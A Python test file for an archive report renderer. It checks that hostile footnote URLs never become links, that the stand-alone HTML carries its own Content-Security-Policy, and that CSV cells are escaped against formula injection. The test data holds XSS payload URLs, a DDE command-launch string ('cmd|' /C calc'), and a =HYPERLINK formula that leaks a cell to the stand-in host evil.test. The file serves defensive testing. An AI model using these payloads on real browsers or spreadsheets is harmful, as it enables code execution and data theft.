"""Hostile footnotes and page titles: no script links in report.html, no formulas in report.csv.

A footnote like `javascript://x%0Aalert(1)` is marked `invalid`, and a page may be titled
`=HYPERLINK(...)`: both are attacker-controlled text that reaches an auditor's browser or
spreadsheet. The stand-alone report.html is opened from disk, with no server to send a
Content-Security-Policy header, so it carries its own in a <meta> tag.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import hashlib
import io
import re
import sys

import pytest

from archive.web.render import REPORT_CSP, is_safe_href, render_html
from schemas import (
    Citation,
    DateCheck,
    DateVerdict,
    DigestSummary,
    IncidentReport,
    NamesCheck,
    NamesVerdict,
    Period,
    Report,
    SourceReport,
    SourceStatus,
    Verdict,
)
from tests.unit.test_report_html import Tags
from worker.report.build import csv_cell, render_csv

HOSTILE_URLS = [
    "javascript://x%0Aalert(1)",
    "JavaScript:alert(document.domain)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
GOOD_URL = "https://rus.azattyq.org/a/31438644.html"
FORMULA_TITLE = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def hostile_report() -> Report:
    urls = [*HOSTILE_URLS, GOOD_URL]
    citations = [
        Citation(
            footnote=n,
            url=url,
            canonical_url=url,
            status=SourceStatus.OK if url == GOOD_URL else SourceStatus.INVALID,
            date_check=DateCheck(verdict=DateVerdict.NOT_CHECKED, rule="-"),
            names_check=NamesCheck(verdict=NamesVerdict.NOT_CHECKED, names=[]),
        )
        for n, url in enumerate(urls, 1)
    ]
    sources = [
        SourceReport(
            id=n,
            footnotes=[n],
            url=url,
            canonical_url=url,
            status=SourceStatus.OK if url == GOOD_URL else SourceStatus.INVALID,
            title=FORMULA_TITLE if url == GOOD_URL else None,
            text_excerpt="@SUM(1+1)*cmd|' /C calc'!A0" if url == GOOD_URL else None,
        )
        for n, url in enumerate(urls, 1)
    ]
    incident = IncidentReport(
        id=1,
        line=3,
        date=dt.date(2021, 9, 7),
        text="+cmd|' /C calc'!A0",
        footnotes=list(range(1, len(urls) + 1)),
        people=["-Someone"],
        verdict=Verdict.NEEDS_REVIEW,
        reasons=["=1+1"],
        citations=citations,
    )
    return Report(
        digest=DigestSummary(
            id="d-x",
            title="hostile",
            period=Period(first=dt.date(2021, 9, 7), last=dt.date(2021, 9, 7)),
            counts={"incidents": 1, "footnotes": len(urls), "sources": len(urls)},
            generated_at=dt.datetime(2021, 9, 30, 12, tzinfo=dt.UTC),
        ),
        incidents=[incident],
        sources=sources,
    )


def test_only_web_urls_become_links() -> None:
    doc = Tags()
    doc.feed(render_html(hostile_report()))
    hrefs = [a.get("href", "") for a in doc.find("a")]
    assert GOOD_URL in hrefs
    for url in HOSTILE_URLS:
        assert url not in hrefs
    assert not [h for h in hrefs if not is_safe_href(h) and not h.startswith("#")]
    # the URL is still shown to the auditor, as text
    text = "".join(doc.text)
    assert "javascript://x%0Aalert(1)" in text


@pytest.mark.parametrize("url", [*HOSTILE_URLS, "", "\x00http://a.test/", "http://a.test/\n"])
def test_is_safe_href_refuses(url: str) -> None:
    assert not is_safe_href(url)


def test_is_safe_href_refuses_every_space_and_control_character() -> None:
    # every code point str.isspace() calls a space (NBSP, U+2028 …) and every C0 control
    spaces = [c for c in map(chr, range(sys.maxunicode + 1)) if c.isspace() or ord(c) < 0x20]
    assert len(spaces) >= 32 + 20  # the controls, and Unicode's spaces beyond ASCII
    refused = [c for c in spaces if not is_safe_href(f"https://a.test/{c}x")]
    assert refused == spaces
    assert is_safe_href("https://a.test/\x7fx")  # DEL is neither: a browser keeps it


@pytest.mark.parametrize(
    "url", [GOOD_URL, "HTTP://A.TEST/", "/sourcevault/20210930000000/https://a.test/"]
)
def test_is_safe_href_accepts(url: str) -> None:
    assert is_safe_href(url)


def test_standalone_report_carries_its_own_policy_matching_its_one_script() -> None:
    page = render_html(hostile_report())
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    assert meta is not None
    policy = meta.group(1).replace("&#39;", "'")
    assert policy == REPORT_CSP
    assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0]
    scripts = re.findall(r"<script>(.*?)</script>", page, re.S)
    assert len(scripts) == 1
    digest = base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode()
    assert f"'sha256-{digest}'" in policy
    assert page.index("Content-Security-Policy") < page.index("<script>")


def test_csv_cells_that_would_be_formulas_are_text() -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_report()))))
    assert rows, "one row per citation"
    for row in rows:
        for field, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (field, value)
    good = next(r for r in rows if r["url"] == GOOD_URL)
    assert good["title"] == "'" + FORMULA_TITLE
    assert rows[0]["reasons"] == "'=1+1"
    assert rows[0]["people"] == "'-Someone"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-5, -5),  # numbers stay numbers
        ("", ""),
    ],
)
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected
